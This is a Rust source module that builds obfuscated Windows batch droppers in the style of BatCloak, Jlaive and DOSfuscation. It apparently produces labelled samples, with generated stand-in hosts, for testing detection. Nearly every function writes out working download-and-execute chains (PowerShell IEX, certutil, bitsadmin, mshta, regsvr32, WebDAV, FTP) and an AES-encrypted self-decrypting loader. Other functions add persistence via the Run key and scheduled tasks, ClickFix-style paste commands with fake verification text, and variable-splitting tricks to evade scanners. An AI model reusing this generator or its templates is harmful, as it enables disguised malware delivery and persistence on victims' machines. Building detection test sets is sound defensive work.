//! Batch: what BatCloak, Jlaive and DOSfuscation make of loaders, programs of Windows that fetch,
//! and lines that pages tell people to paste.

use super::super::{Dice, Truth, base64, codes, gzip, hex, put, reversed, wide};
use super::{
    agent, alphabet, among, bytes, camel, chunks, cipher, letters, numbers, places, salad,
};

fn name(dice: &mut Dice) -> String {
    match dice.below(5) {
        0 | 1 => dice.name(),
        2 => salad(dice, 10).replace(|it: char| it.is_ascii_digit(), "k"),
        3 => camel(dice),
        _ => {
            let words = ["данные", "файл", "文件", "变量", "データ", "ключ", "値"];
            format!("{}{}", dice.pick(&words), dice.below(100_000))
        }
    }
}

/// What a character is in a variable that every machine has.
fn in_environment(dice: &mut Dice, letter: char) -> Option<String> {
    let variables = [
        ("PUBLIC", "C:\\Users\\Public"),
        ("ProgramData", "C:\\ProgramData"),
        ("OS", "Windows_NT"),
        ("ALLUSERSPROFILE", "C:\\ProgramData"),
    ];
    let (name, value) = variables[dice.below(variables.len())];
    let at = value.find(letter)?;
    let back = value.len() - at;
    Some(if dice.chance(30) { format!("%{name}:~-{back},1%") } else { format!("%{name}:~{at},1%") })
}

const DELAYED: &str = "setlocal enabledelayedexpansion\n";

/// Variables that are set in front, and what the text is then in a line.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let own = name(dice);
    match dice.below(15) {
        0 | 1 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| name(dice)).collect();
            for at in dice.order(pieces.len()) {
                before.push_str(&format!("set \"{}={}\"\n", names[at], pieces[at]));
            }
            names.iter().map(|it| format!("%{it}%")).collect()
        }
        2 | 3 => {
            let all = alphabet(dice, text, "abcdefghijklmnopqrstuvwxyz0123456789");
            before.push_str(&format!("set \"{own}={all}\"\n"));
            places(&all, text).iter().map(|at| format!("%{own}:~{at},1%")).collect()
        }
        4 => {
            let mark = loop {
                let mark = dice.pick(&["#", "@", "QQ", "ZX", "JJ", "_K_", "$$", "xQx"]);
                if !text.to_uppercase().contains(&mark.to_uppercase()) {
                    break mark;
                }
            };
            before.push_str(&format!("set \"{own}={}\"\n", dice.littered(text, mark)));
            format!("%{own}:{mark}=%")
        }
        5 => {
            let mut out = String::new();
            for letter in text.chars() {
                if dice.chance(40) {
                    out.push_str(&format!("%{}%", dice.name()));
                }
                out.push(letter);
            }
            out
        }
        6 => {
            let back = dice.name();
            before.push_str(&format!(
                "{DELAYED}set \"{back}={}\"\nset \"{own}=\"\nfor /l %%i in (0,1,{}) do set \"{own}=!{back}:~%%i,1!!{own}!\"\n",
                reversed(text),
                text.len() - 1
            ));
            format!("%{own}%")
        }
        7 => {
            before.push_str(&format!(
                "for /f \"usebackq delims=\" %%i in (`powershell -nop -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}'))\"`) do set \"{own}=%%i\"\n",
                base64(text.as_bytes())
            ));
            format!("%{own}%")
        }
        8 => {
            let file = dice.name();
            before.push_str(&format!(
                ">\"%temp%\\{file}.b64\" echo {}\ncertutil -f -decode \"%temp%\\{file}.b64\" \"%temp%\\{file}.txt\" >nul 2>&1\nset /p {own}=<\"%temp%\\{file}.txt\"\ndel /q \"%temp%\\{file}.b64\" \"%temp%\\{file}.txt\"\n",
                base64(text.as_bytes())
            ));
            format!("%{own}%")
        }
        9 => {
            let (all, table) = (among(dice, text, 6), dice.name());
            before.push_str(&format!(
                "{DELAYED}set \"{table}={all}\"\nset \"{own}=\"\nfor %%x in ({}) do set \"{own}=!{own}!!{table}:~%%x,1!\"\n",
                numbers(&places(&all, text), " ")
            ));
            format!("%{own}%")
        }
        10 => {
            let (all, table) = (among(dice, text, 6), dice.name());
            let list: String =
                places(&all, text).iter().map(|at| format!("%%{table}:~{at},1%%")).collect();
            before.push_str(&format!("set \"{table}={all}\"\ncall set \"{own}={list}\"\n"));
            format!("%{own}%")
        }
        11 => {
            let mark = dice.pick(&["|", ";", ","]);
            let mut pieces = dice.pieces(text);
            pieces.truncate(8);
            let (mut said, mut tokens, mut picked) = (letters(dice, 5), Vec::new(), String::new());
            let mut at = 1;
            for (number, piece) in pieces.iter().enumerate() {
                if dice.chance(50) {
                    at += 1;
                    said.push_str(&format!("{mark}{}", letters(dice, 5)));
                }
                at += 1;
                said.push_str(&format!("{mark}{piece}"));
                tokens.push(at);
                picked.push_str(&format!("%%{}", char::from(b'a' + number as u8)));
            }
            before.push_str(&format!(
                "for /f \"tokens={} delims={mark}\" %%a in (\"{said}\") do set \"{own}={picked}\"\n",
                numbers(&tokens, ",")
            ));
            format!("%{own}%")
        }
        12 => text
            .chars()
            .map(|it| {
                let found = if dice.chance(70) { in_environment(dice, it) } else { None };
                found.unwrap_or_else(|| it.to_string())
            })
            .collect(),
        13 => {
            let pieces = dice.pieces(text);
            let labels: Vec<String> = (0..=pieces.len()).map(|_| salad(dice, 7)).collect();
            let labels: Vec<String> = labels.iter().map(|it| format!("l{it}")).collect();
            before.push_str(&format!("set \"{own}=\"\ngoto {}\n", labels[0]));
            for at in dice.order(pieces.len()) {
                before.push_str(&format!(
                    ":{}\nset \"{own}=%{own}%{}\"\ngoto {}\n",
                    labels[at],
                    pieces[at],
                    labels[at + 1]
                ));
            }
            before.push_str(&format!(":{}\n", labels[pieces.len()]));
            format!("%{own}%")
        }
        _ => {
            let mut said = String::new();
            for letter in text.chars() {
                if dice.chance(50) {
                    said.push('^');
                }
                said.push(letter);
            }
            before.push_str(&format!("set {own}={said}\n"));
            format!("%{own}%")
        }
    }
}

fn hidden(dice: &mut Dice, text: &str) -> (String, String) {
    let mut before = String::new();
    let word = hide(dice, text, &mut before);
    (before, word)
}

/// Names that stand for nothing between the letters of a line.
fn noisy(dice: &mut Dice, line: &str) -> String {
    let mut out = String::new();
    for letter in line.chars() {
        if dice.chance(15) {
            out.push_str(&format!(
                "%{}%",
                salad(dice, 8).replace(|it: char| it.is_ascii_digit(), "j")
            ));
        }
        out.push(letter);
    }
    out
}

/// The command of a line in mixed case, with carets.
fn careted(dice: &mut Dice, line: &str) -> String {
    let (word, rest) = line.split_once(' ').unwrap_or((line, ""));
    if ["if", "for", "rem"].contains(&word) || !word.chars().all(|it| it.is_ascii_alphanumeric()) {
        return line.to_owned();
    }
    let mut out = String::new();
    for letter in word.chars() {
        if dice.chance(35) {
            out.push('^');
        }
        out.push(if dice.chance(40) { letter.to_ascii_uppercase() } else { letter });
    }
    if rest.is_empty() { out } else { format!("{out} {rest}") }
}

/// Each line in variables, as BatCloak leaves it.
fn cloaked(dice: &mut Dice, line: &str) -> String {
    let cut = chunks(line, 2 + dice.below(5));
    let names: Vec<String> = cut.iter().map(|_| name(dice)).collect();
    let mut out = String::new();
    for at in dice.order(cut.len()) {
        out.push_str(&format!("set \"{}={}\"\n", names[at], cut[at]));
    }
    out + &names.iter().map(|it| format!("%{it}%")).collect::<String>()
}

/// The lines of a script in a builder's manner.
fn built(dice: &mut Dice, script: &str) -> String {
    let manner = dice.below(7);
    let mut out = String::new();
    for line in script.lines() {
        let plain = !line.contains(['%', '"', '^', '!', '(', ')', '&', '|', '<', '>'])
            && !line.starts_with([':', '@', '>', ' '])
            && !line.starts_with("for")
            && !line.starts_with("goto");
        let open = !line.contains(['%', '!', '(', ')', '^']) && !line.starts_with([':', '>']);
        let done = match manner {
            0 if plain => cloaked(dice, line),
            1 if open => noisy(dice, line),
            2 if open && !line.starts_with("set") && !line.starts_with('@') => careted(dice, line),
            3 if plain && dice.chance(50) => cloaked(dice, line),
            3 if open => careted(dice, line),
            _ => line.to_owned(),
        };
        out.push_str(&done);
        out.push('\n');
    }
    out
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let script = plain(dice, truth);
    let own = script.contains("%~f0") || script.starts_with("@if");
    let mut out = String::new();
    // What counts its own lines has none in front of them.
    if !own || script.starts_with("@echo") && !script.contains("more +") {
        out.push_str(&opening(dice));
    }
    if own { out + &script } else { out + &built(dice, &script) }
}

fn opening(dice: &mut Dice) -> String {
    let mut out = String::new();
    if dice.chance(85) {
        out.push_str(dice.pick(&[
            "@echo off\n",
            "@ECHO OFF\n",
            "@%comspec% /c exit\n@echo off\n",
            "@eCHo oFF\n",
        ]));
    }
    for _ in 0..dice.below(4) {
        let own = camel(dice);
        out.push_str(&match dice.below(6) {
            0 => format!("rem {own} {}\n", letters(dice, 10)),
            1 => format!(":: {} {own}\n", letters(dice, 10)),
            2 => "title Windows Update\n".to_owned(),
            3 => format!("set /a {own}={}+{}\n", dice.below(900), dice.below(90)),
            4 => "chcp 65001 >nul\n".to_owned(),
            _ => "cd /d \"%~dp0\"\n".to_owned(),
        });
    }
    out
}

fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(15) {
        0 => with_powershell(dice, truth),
        1 | 2 => with_program(dice, truth),
        3 => writes_visual_basic(dice, truth),
        4 => writes_powershell(dice, truth),
        5 => reads_itself(dice, truth),
        6 => encoded(dice, truth),
        7 => file_transfer(dice, truth),
        8 => folder_of_the_web(dice, truth),
        9 => own_python(dice, truth),
        10 => pasted(dice, truth),
        11 => hybrid(dice, truth),
        12 => markup_host(dice, truth),
        13 => list(dice, truth),
        _ => task(dice, truth),
    }
}

fn with_powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".exe", ".txt"]);
    let (before, word) = hidden(dice, &url);
    let file = dice.name();
    let options = dice.pick(&[
        "-nop -w hidden",
        "-WindowStyle Hidden -ExecutionPolicy Bypass",
        "-ep bypass -w 1",
        "-NoProfile",
    ]);
    let code = match dice.below(7) {
        0 => format!("IEX (New-Object Net.WebClient).DownloadString('{word}')"),
        1 => format!(
            "(New-Object Net.WebClient).DownloadFile('{word}','%TEMP%\\{file}.exe'); Start-Process '%TEMP%\\{file}.exe'"
        ),
        2 => {
            format!("iwr -Uri '{word}' -OutFile $env:TEMP\\{file}.exe; saps $env:TEMP\\{file}.exe")
        }
        3 => format!("irm {word} | iex"),
        4 => format!("Start-BitsTransfer -Source '{word}' -Destination '%APPDATA%\\{file}.exe'"),
        5 => format!(
            "$w=New-Object Net.WebClient;$w.Headers['User-Agent']='{}';iex $w.DownloadString('{word}')",
            agent(dice)
        ),
        _ => format!(
            "[Net.ServicePointManager]::SecurityProtocol='Tls12';Invoke-Expression (Invoke-WebRequest '{word}' -UseBasicParsing).Content"
        ),
    };
    format!("{before}powershell {options} -c \"{code}\"\nexit /b\n")
}

fn with_program(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".exe", "", ".dat", ".sct", ".msi"]);
    let (before, word) = hidden(dice, &url);
    let file = dice.name();
    let path = format!(
        "{}\\{file}.exe",
        dice.pick(&["%TEMP%", "%APPDATA%", "%PUBLIC%", "%ProgramData%", "C:\\Users\\Public"])
    );
    let line = match dice.below(13) {
        0 => format!(
            "certutil -urlcache -split -f \"{word}\" \"{path}\" >nul\nstart \"\" \"{path}\""
        ),
        1 => format!("certutil.exe -f -urlcache {word} {path} && {path}"),
        2 => format!(
            "bitsadmin /transfer {file} /download /priority foreground {word} {path}\nstart /b {path}"
        ),
        3 => format!(
            "bitsadmin /create {file}\nbitsadmin /addfile {file} {word} {path}\nbitsadmin /resume {file}\ntimeout /t 5 /nobreak >nul\nbitsadmin /complete {file}\nstart {path}"
        ),
        4 => format!("curl -s -L -o \"{path}\" \"{word}\"\nstart \"\" /min \"{path}\""),
        5 => format!("curl.exe -k {word} --output {path} & {path}"),
        6 => format!("start mshta {word}"),
        7 => format!("regsvr32 /s /n /u /i:{word} scrobj.dll"),
        8 => format!("msiexec /q /i {word}"),
        9 => format!("wmic os get /format:\"{word}\""),
        10 => format!(
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{word}\")"
        ),
        11 => format!(
            "\"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe\" -DownloadFile -url {word} -path {path}\n{path}"
        ),
        _ => format!("msiexec.exe /package {word} /quiet /norestart"),
    };
    format!("{before}{line}\n")
}

/// A script for the other interpreter, line by line.
fn writes_visual_basic(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe"]);
    let (before, word) = hidden(dice, &url);
    let (file, program) = (dice.name(), dice.name());
    let path = format!("%temp%\\{file}.vbs");
    let lines = [
        format!("strFileURL = \"{word}\""),
        format!("strHDLocation = \"%temp%\\{program}.exe\""),
        "Set objXMLHTTP = CreateObject(\"MSXML2.XMLHTTP\")".to_owned(),
        "objXMLHTTP.open \"GET\", strFileURL, false".to_owned(),
        "objXMLHTTP.send()".to_owned(),
        "If objXMLHTTP.Status = 200 Then".to_owned(),
        "Set objADOStream = CreateObject(\"ADODB.Stream\")".to_owned(),
        "objADOStream.Open".to_owned(),
        "objADOStream.Type = 1".to_owned(),
        "objADOStream.Write objXMLHTTP.ResponseBody".to_owned(),
        "objADOStream.Position = 0".to_owned(),
        "objADOStream.SaveToFile strHDLocation, 2".to_owned(),
        "objADOStream.Close".to_owned(),
        "End if".to_owned(),
        "CreateObject(\"WScript.Shell\").Run strHDLocation, 0".to_owned(),
    ];
    let mut out = before;
    match dice.below(2) {
        0 => {
            for (at, line) in lines.iter().enumerate() {
                let arrow = if at == 0 { ">" } else { ">>" };
                out.push_str(&format!("echo {line} {arrow} {path}\n"));
            }
        }
        _ => {
            for (at, line) in lines.iter().enumerate() {
                let arrow = if at == 0 { ">" } else { ">>" };
                out.push_str(&format!("{arrow}\"{path}\" echo {line}\n"));
            }
        }
    }
    let start = dice.pick(&["cscript //nologo", "wscript //B", "start /wait wscript"]);
    out + &format!("{start} \"{path}\"\ndel /f /q \"{path}\"\n")
}

fn writes_powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe", ".ps1"]);
    let (before, word) = hidden(dice, &url);
    let (file, program) = (dice.name(), dice.name());
    let path = format!("%TEMP%\\{file}.ps1");
    format!(
        "{before}set \"S={path}\"\necho $u = '{word}' > \"%S%\"\necho $p = \"$env:TEMP\\{program}.exe\" >> \"%S%\"\necho $c = New-Object System.Net.WebClient >> \"%S%\"\necho $c.DownloadFile($u, $p) >> \"%S%\"\necho Start-Process $p >> \"%S%\"\npowershell -NoProfile -ExecutionPolicy Bypass -File \"%S%\"\ndel \"%S%\"\n"
    )
}

/// Jlaive's: a line of the file is taken out of its cipher by a copy of PowerShell.
fn reads_itself(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".bin"]);
    let payload = match dice.below(2) {
        0 => format!("IEX (New-Object Net.WebClient).DownloadString('{url}')"),
        _ => format!(
            "$u='{url}'\n$d=(New-Object System.Net.WebClient).DownloadData($u)\n[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,@(,[string[]]@()))"
        ),
    };
    let mark = dice.pick(&["::::", ":::", "::$"]);
    match dice.below(4) {
        0 => {
            let (key, vector) = (bytes(dice, 32), bytes(dice, 16));
            let data = base64(&cipher::aes_cbc(&key, &vector, &gzip(payload.as_bytes())));
            put(
                "@echo off\ncopy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe \"%~dp0%~nx0.exe\" /y >nul\ncls\ncd /d \"%~dp0\"\n\"%~nx0.exe\" -noprofile -windowstyle hidden -ep bypass -command $@T@ = [System.IO.File]::('txeTllAdaeR'[-1..-11] -join '')('%~f0').Split([Environment]::NewLine);foreach ($@L@ in $@T@) { if ($@L@.StartsWith('@MARK@')) {  $@D@ = $@L@.Substring(@SIZE@); break; }; };$@B@ = [System.Convert]::FromBase64String($@D@);$@A@ = New-Object System.Security.Cryptography.AesManaged;$@A@.Mode = [System.Security.Cryptography.CipherMode]::CBC;$@A@.Padding = [System.Security.Cryptography.PaddingMode]::PKCS7;$@A@.Key = [System.Convert]::FromBase64String('@KEY@');$@A@.IV = [System.Convert]::FromBase64String('@IV@');$@P@ = $@A@.CreateDecryptor();$@B@ = $@P@.TransformFinalBlock($@B@, 0, $@B@.Length);$@P@.Dispose();$@A@.Dispose();$@M@ = New-Object System.IO.MemoryStream(, $@B@);$@O@ = New-Object System.IO.MemoryStream;$@G@ = New-Object System.IO.Compression.GZipStream($@M@, [IO.Compression.CompressionMode]::Decompress);$@G@.CopyTo($@O@);$@G@.Dispose();$@M@.Dispose();$@O@.Dispose();$@B@ = $@O@.ToArray();Invoke-Expression ([System.Text.Encoding]::UTF8.GetString($@B@));\nexit /b\n@MARK@@DATA@\n",
                &[
                    ("MARK", mark),
                    ("SIZE", &mark.len().to_string()),
                    ("KEY", &base64(&key)),
                    ("IV", &base64(&vector)),
                    ("DATA", &data),
                    ("T", &salad(dice, 5)),
                    ("L", &dice.name()),
                    ("D", &dice.name()),
                    ("B", &dice.name()),
                    ("A", &dice.name()),
                    ("P", &dice.name()),
                    ("M", &dice.name()),
                    ("O", &dice.name()),
                    ("G", &dice.name()),
                ],
            )
        }
        1 => format!(
            "@echo off\nfor /f \"usebackq tokens=1,* delims=#\" %%a in (`findstr /b /c:\"::{0}#\" \"%~f0\"`) do set \"{0}=%%b\"\npowershell -nop -w hidden -enc %{0}%\nexit /b\n::{0}#{1}\n",
            dice.name(),
            base64(&wide(&payload))
        ),
        2 => {
            let file = dice.name();
            let lines = "@echo off\nmore +5 \"%~f0\" > \"%temp%\\@F@.vbs\"\nwscript //B \"%temp%\\@F@.vbs\"\ndel \"%temp%\\@F@.vbs\"\nexit /b\nSet x = CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", StrReverse(\"@U@\"), False\nx.Send\nExecuteGlobal x.responseText\n";
            put(lines, &[("F", &file), ("U", &reversed(&url))])
        }
        _ => {
            let word = dice.name();
            let key = dice.key();
            format!(
                "@echo off\nset \"F=%~f0\"\npowershell -w hidden -c \"$l=[IO.File]::ReadAllLines($env:F)[-1].Substring(5);iex(-join($l -split ',' | foreach {{[char]([int]$_ -bxor {key})}}))\"\ngoto :eof\n:{word}\nrem {} {}\n:::: {}\n",
                camel(dice),
                letters(dice, 20),
                codes(payload.bytes().map(|it| it ^ key), ",")
            )
        }
    }
}

fn encoded(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".txt"]);
    let file = dice.name();
    let code = match dice.below(4) {
        0 => format!("IEX (New-Object Net.WebClient).DownloadString('{url}')"),
        1 => format!("$p=\"$env:TEMP\\{file}.exe\";iwr '{url}' -OutFile $p;start $p"),
        2 => {
            format!("$a='{}'.ToCharArray();[array]::Reverse($a);irm (-join $a)|iex", reversed(&url))
        }
        _ => format!(
            "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))",
            base64(format!("irm '{url}' | iex").as_bytes())
        ),
    };
    let data = base64(&wide(&code));
    match dice.below(3) {
        0 => format!("powershell -NoP -NonI -W Hidden -Exec Bypass -Enc {data}\n"),
        1 => {
            let own = dice.name();
            let mut out = format!("set \"{own}=\"\n");
            for part in chunks(&data, 60 + dice.below(60)) {
                out.push_str(&format!("set \"{own}=%{own}%{part}\"\n"));
            }
            out + &format!("start /b powershell -w hidden -e %{own}%\n")
        }
        _ => {
            let (before, word) = hidden(dice, "powershell");
            format!("{before}start \"\" /min {word} -ep bypass -w hidden -EncodedCommand {data}\n")
        }
    }
}

fn file_transfer(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), if dice.chance(60) { 21 } else { dice.port() });
    truth.endpoints.insert((host.clone(), port));
    let (before, word) = hidden(dice, &host);
    let (script, file) = (dice.name(), dice.name());
    format!(
        "{before}cd /d %temp%\necho open {word} {port}>{script}.txt\necho user {0} {1}>>{script}.txt\necho binary>>{script}.txt\necho get {file}.exe>>{script}.txt\necho bye>>{script}.txt\nftp -n -v -s:{script}.txt\ndel {script}.txt\nstart {file}.exe\n",
        dice.name(),
        salad(dice, 8)
    )
}

/// A share that is asked for over HTTP.
fn folder_of_the_web(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    let (file, drive) = (dice.name(), dice.pick(&["Z:", "X:", "Y:"]));
    match dice.below(4) {
        0 => format!("{before}start \"\" \"\\\\{word}@{port}\\DavWWWRoot\\{file}.lnk\"\n"),
        1 => format!(
            "{before}net use {drive} \\\\{word}@{port}\\DavWWWRoot\\ /persistent:no\ncopy {drive}\\{file}.exe %TEMP%\\{file}.exe\nnet use {drive} /delete /y\nstart %TEMP%\\{file}.exe\n"
        ),
        2 => format!("{before}rundll32 \\\\{word}@{port}\\{file}.dll,Start\n"),
        _ => format!("{before}pushd \\\\{word}@{port}\\DavWWWRoot\nregsvr32 /s {file}.dll\npopd\n"),
    }
}

/// An interpreter in an archive, and what it runs.
fn own_python(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".zip"]);
    let second = truth.url(dice, &[".zip", ".bat", ".py"]);
    let (before, one) = hidden(dice, &url);
    let (more, two) = hidden(dice, &second);
    let (file, next) = (dice.name(), dice.name());
    format!(
        "{before}{more}start \"\" invoice.pdf\nif exist \"%USERPROFILE%\\Downloads\\{file}.zip\" del \"%USERPROFILE%\\Downloads\\{file}.zip\"\npowershell -Command \"[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; Invoke-WebRequest -Uri '{one}' -OutFile '%USERPROFILE%\\Downloads\\{file}.zip'\"\npowershell -Command \"Expand-Archive -Path '%USERPROFILE%\\Downloads\\{file}.zip' -DestinationPath '%USERPROFILE%\\Downloads' -Force\"\npowershell -Command \"Invoke-WebRequest -Uri '{two}' -OutFile '%USERPROFILE%\\Downloads\\{next}.py'\"\ncd /d \"%USERPROFILE%\\Downloads\\Python\\Python312\"\npython.exe ..\\..\\{next}.py\nattrib +h \"%USERPROFILE%\\Downloads\\Python\"\n"
    )
}

fn pasted(dice: &mut Dice, truth: &mut Truth) -> String {
    let host = dice.host();
    let path = dice.name();
    let note = format!("Verification ID: {}", dice.below(900_000) + 100_000);
    match dice.below(6) {
        0 => {
            truth.endpoints.insert((host.clone(), 79));
            format!(
                "cmd /c start \"\" /min cmd /c \"finger {path}@{host} | cmd\" && echo '{note}'\n"
            )
        }
        1 => {
            let url = format!("http://{host}/{path}");
            truth.urls.insert(url);
            format!(
                "cmd /c start /min powershell -w h -c \"iex(irm {host}/{path})\" & rem {note}\n"
            )
        }
        2 => {
            let url = format!("https://{host}/{path}.hta");
            truth.urls.insert(url.clone());
            format!("mshta {url} # {note}\n")
        }
        3 => {
            let url = format!("https://{host}/{path}");
            truth.urls.insert(url.clone());
            let (before, word) = hidden(dice, &url);
            format!(
                "{before}cmd /c \"set u={word}&& call curl -s %%u%% -o %TEMP%\\{path}.bat && call %TEMP%\\{path}.bat\"\n"
            )
        }
        4 => {
            let url = format!("http://{host}/{path}");
            truth.urls.insert(url.clone());
            format!(
                "conhost --headless cmd /c \"powershell -nop -c $a='{url}';iex(iwr $a -useb).Content\"\n"
            )
        }
        _ => {
            let url = format!("http://{host}/{path}.msi");
            truth.urls.insert(url.clone());
            let (before, word) = hidden(dice, "msiexec");
            format!(
                "{before}forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c {word} /i {url} /qn\"\n"
            )
        }
    }
}

/// Batch and JScript in one file.
fn hybrid(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe"]);
    let (file, mark) = (dice.name(), dice.mark(&url));
    let littered = dice.littered(&url, &mark);
    format!(
        "@if (@CodeSection == @Batch) @then\n@echo off\ncscript //nologo //e:jscript \"%~f0\" \"%temp%\"\nstart \"\" \"%temp%\\{file}.exe\"\nexit /b\n@end\nvar u = '{littered}'.split('{mark}').join('');\nvar x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', u, false);\nx.send();\nvar s = new ActiveXObject('ADODB.Stream');\ns.Type = 1;\ns.Open();\ns.Write(x.responseBody);\ns.SaveToFile(WScript.Arguments(0) + '\\\\{file}.exe', 2);\ns.Close();\n"
    )
}

/// Scripts on the command line of mshta.
fn markup_host(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1"]);
    let (before, word) = hidden(dice, &url);
    match dice.below(3) {
        0 => format!(
            "{before}mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"powershell -w hidden -c iex(irm '{word}')\",0,False)(window.close)\n"
        ),
        1 => format!(
            "{before}mshta \"javascript:var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl -s {word} -o %TEMP%\\\\a.cmd & %TEMP%\\\\a.cmd',0);close();\"\n"
        ),
        _ => format!("{before}mshta javascript:a=GetObject(\"script:{word}\").Exec();close();\n"),
    }
}

fn list(dice: &mut Dice, truth: &mut Truth) -> String {
    let urls: Vec<String> =
        (0..2 + dice.below(3)).map(|_| truth.url(dice, &[".exe", ""])).collect();
    let file = dice.name();
    if dice.chance(50) {
        format!(
            "set N=0\nfor %%u in ({}) do (\n  set /a N+=1\n  curl -s -o \"%TEMP%\\{file}.exe\" \"%%~u\"\n  start \"\" /b \"%TEMP%\\{file}.exe\"\n)\n",
            urls.iter().map(|it| format!("\"{it}\"")).collect::<Vec<_>>().join(" ")
        )
    } else {
        let mut out = String::new();
        for (at, url) in urls.iter().enumerate() {
            let (before, word) = hidden(dice, url);
            out.push_str(&before);
            out.push_str(&format!("call :{file} \"{word}\" {at}\n"));
        }
        out + &format!(
            "goto :eof\n:{file}\nset \"dst=%TEMP%\\{file}%~2.exe\"\npowershell -nop -c \"(New-Object Net.WebClient).DownloadFile('%~1','%dst%')\"\nif exist \"%dst%\" start \"\" \"%dst%\"\ngoto :eof\n"
        )
    }
}

fn task(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".hta", ".ps1"]);
    let (before, word) = hidden(dice, &url);
    let own = dice.name();
    match dice.below(3) {
        0 => format!(
            "{before}schtasks /create /f /sc minute /mo 30 /tn \"{own}\" /tr \"mshta.exe {word}\"\nschtasks /run /tn \"{own}\"\n"
        ),
        1 => format!(
            "{before}reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {own} /t REG_SZ /d \"powershell -w hidden -c iex(irm '{word}')\" /f >nul\npowershell -w hidden -c iex(irm '{word}')\n"
        ),
        _ => {
            let data = hex(url.as_bytes());
            format!(
                "set \"{own}={data}\"\npowershell -w hidden -c \"$h='%{own}%';$u=-join(0..($h.Length/2-1)|foreach{{[char][Convert]::ToInt32($h.Substring($_*2,2),16)}});iex(New-Object Net.WebClient).DownloadString($u)\"\n"
            )
        }
    }
}
